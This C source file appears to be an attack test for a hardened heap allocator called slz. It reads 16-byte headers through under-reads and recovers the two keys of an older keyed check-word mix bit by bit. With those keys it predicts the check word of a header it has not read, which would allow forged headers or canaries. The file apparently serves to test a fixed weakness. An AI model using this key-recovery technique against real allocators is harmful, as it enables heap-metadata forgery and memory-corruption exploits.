/* key_recovery: recover the key of the header check words from headers
 * read through 16-byte under-reads, then compute the check word of a
 * header never read.
 *
 * Goal: the check word of a block's header, predicted before it is read
 * (so the attacker could forge any header, or write back a canary, with a
 * valid check word).
 *
 * The attacker reads, below each of 24 blocks of its own, the 16-byte
 * header an under-read shows: the head (size and flags) and its check
 * word. It assumes the check word is the keyed mix slz used before issue
 * 18, x = ((address ^ k0) * 0x9e3779b97f4a7c15 + head), check = x ^ (x >> 29)
 * ^ k1, which gives both keys away: the xor of two check words cancels k1
 * and undoes into the xor of the two x, whose low t bits depend only on
 * the low t bits of k0, so k0 is found bit by bit (every branch kept that
 * all pairs agree with), then k1 from any one word. With the keys it
 * predicts the check word of a new block of another size, then reads it.
 *   key_recovery      (no arguments)
 * Under glibc (no check words) the attacker has nothing to read: "goal not
 * reached: cannot aim".
 */
#include "attacks.h"

#define N 24
#define M 0x9e3779b97f4a7c15ull

static uint64_t addr[N], head[N], check[N];

/* unmix: x from y = x ^ (x >> 29) (the shift is undone in two steps). */
static uint64_t unmix(uint64_t y) { return y ^ (y >> 29) ^ (y >> 58); }
static uint64_t mix(uint64_t k0, uint64_t a, uint64_t b) { return ((a ^ k0) * M) + b; }

/* agree: k0's low t bits fit every pair (0 and i): the low t bits of
 * x0 ^ xi, known from the check words, are what they give. */
static int agree(uint64_t k0, int t)
{
    uint64_t mask = t == 64 ? ~0ull : (1ull << t) - 1;
    for (int i = 1; i < N; i++) {
        uint64_t want = unmix(check[0] ^ check[i]);
        if (((mix(k0, addr[0], head[0]) ^ mix(k0, addr[i], head[i])) & mask) != (want & mask))
            return 0;
    }
    return 1;
}

/* search: every k0 that fits, bit t on; the first full one in *found.
 * Returns how many were found (the search stops after a few). */
static int search(uint64_t k0, int t, uint64_t *found, int *budget)
{
    if (--*budget < 0)
        return 0;
    if (t == 64) {
        *found = k0;
        return 1;
    }
    int n = 0;
    for (uint64_t bit = 0; bit < 2 && n < 2; bit++) {
        uint64_t k = k0 | (bit << t);
        if (agree(k, t + 1))
            n += search(k, t + 1, found, budget);
    }
    return n;
}

int main(void)
{
    char *blocks[N + 1];
    for (int i = 0; i < N; i++) {
        blocks[i] = opaque(malloc(24 + 16 * (i % 5)));
        uint64_t *w = (uint64_t *)blocks[i] - 2; /* the under-read */
        addr[i] = (uint64_t)(uintptr_t)w;
        head[i] = w[0];
        check[i] = w[1];
    }
    if (need_layout(blocks[0], blocks[1]) != LAYOUT_SLZ)
        not_reached("cannot aim: no keyed check words in this allocator's headers");
    uint64_t k0 = 0;
    int budget = 1 << 20;
    int n = search(0, 0, &k0, &budget);
    if (n == 0)
        not_reached("no key of the old mix fits the %d check words read", N);
    uint64_t k1 = check[0] ^ (mix(k0, addr[0], head[0]) ^ (mix(k0, addr[0], head[0]) >> 29));
    char *z = opaque(malloc(200)); /* a size not read above */
    uint64_t *w = (uint64_t *)z - 2;
    uint64_t x = mix(k0, (uint64_t)(uintptr_t)w, w[0]);
    uint64_t predicted = x ^ (x >> 29) ^ k1;
    if (predicted == w[1])
        reached("from %d headers, k0=%#llx k1=%#llx predict the check word %#llx of the new block %p", N,
                (unsigned long long)k0, (unsigned long long)k1, (unsigned long long)predicted, (void *)z);
    not_reached("the key taken from %d headers (%d fit) predicted %#llx, the check word is %#llx", N, n,
                (unsigned long long)predicted, (unsigned long long)w[1]);
}
